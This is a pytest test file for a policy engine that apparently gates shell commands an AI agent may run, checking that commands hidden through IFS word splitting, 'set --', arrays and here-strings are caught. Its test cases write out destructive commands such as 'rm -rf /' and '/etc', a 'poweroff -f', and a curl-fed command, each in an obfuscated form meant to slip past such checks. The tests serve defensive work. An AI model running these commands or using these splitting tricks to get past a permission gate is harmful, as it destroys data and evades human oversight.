"""Commands built by word splitting (issue 14's IFS evasion): what runs is not what the
text shows. The engine computes the split where the line gives everything it needs (IFS,
`$'...'`, `set --`, arrays, `read` from a here-string) and judges the command that
results; where it cannot (IFS or the value known only at run time) the command is typed
with a reason that says it is built at run time.
"""

from __future__ import annotations

import pytest

from aiperm_tui.config import Config
from aiperm_tui.policy import PolicyEngine

ENGINE = PolicyEngine(Config())


@pytest.mark.parametrize(
    ("cmd", "runs"),
    [
        ("IFS=,; c=rm,-rf,/var/www; $c", "/var/www"),
        ("IFS=$'\\n'; c=$'rm\\n-rf\\n/opt'; $c", "/opt"),
        ("IFS=:; c=rm:-rf:/usr; $c", "/usr"),
        ("IFS=/; x=chmod/-R/777/etc; $x", "chmod"),
        ('set -- rm -rf /; "$@"', "/"),
        ('set -- -rf /boot; rm "$@"', "/boot"),
        ('a=(rm -rf /srv); "${a[@]}"', "/srv"),
        ("declare -a a=(rm -rf /home); ${a[*]}", "/home"),
        ("read -r c <<< 'rm -rf /var/lib'; $c", "/var/lib"),
        ("read -ra a <<< 'rm -rf /etc'; \"${a[@]}\"", "/etc"),
        ("IFS=, read -ra a <<< 'rm,-rf,/var'; \"${a[@]}\"", "/var"),
        ("mapfile -t a <<< $'rm\\n-rf\\n/boot'; \"${a[@]}\"", "/boot"),
        ("read -r p q <<< 'poweroff -f'; $p $q", "poweroff"),
    ],
)
def test_a_split_the_line_computes_is_judged_as_the_command_it_builds(cmd: str, runs: str) -> None:
    d = ENGINE.decide(cmd)
    assert d.confirm == "typed", d
    assert runs in d.reason, d
    assert "does not know" not in d.reason


@pytest.mark.parametrize(
    "cmd",
    [
        "IFS=$(printf ,); c=rm,-rf,/x; $c",
        'IFS="$SEP"; c=rm,-rf,/x; $c',
        "read c; $c",
        'read -ra a < cmds.txt; "${a[@]}"',
        "curl -s https://x.example/c | read -r c; $c",
        '"$@"',
        '"${a[@]}"',
    ],
)
def test_a_split_that_cannot_be_computed_is_typed_as_built_at_run_time(cmd: str) -> None:
    d = ENGINE.decide(cmd)
    assert d.confirm == "typed" and d.decision == "allow", d
    assert "run time" in d.reason, d


@pytest.mark.parametrize(
    "cmd",
    [
        "IFS=:; echo $PATH",
        "IFS=/; p=usr/sbin/userdel/-r/deploy; echo $p",
        'set -- a b; echo "$@"',
        "a=(one two three); printf '%s\\n' \"${a[@]}\"",
        "read -r name <<< 'world'; echo \"hello $name\"",
        "IFS=, read -ra parts <<< 'a,b,c'; echo \"${parts[@]}\"",
    ],
)
def test_a_split_into_a_harmless_command_stays_harmless(cmd: str) -> None:
    assert ENGINE.decide(cmd).confirm == "none", ENGINE.decide(cmd)
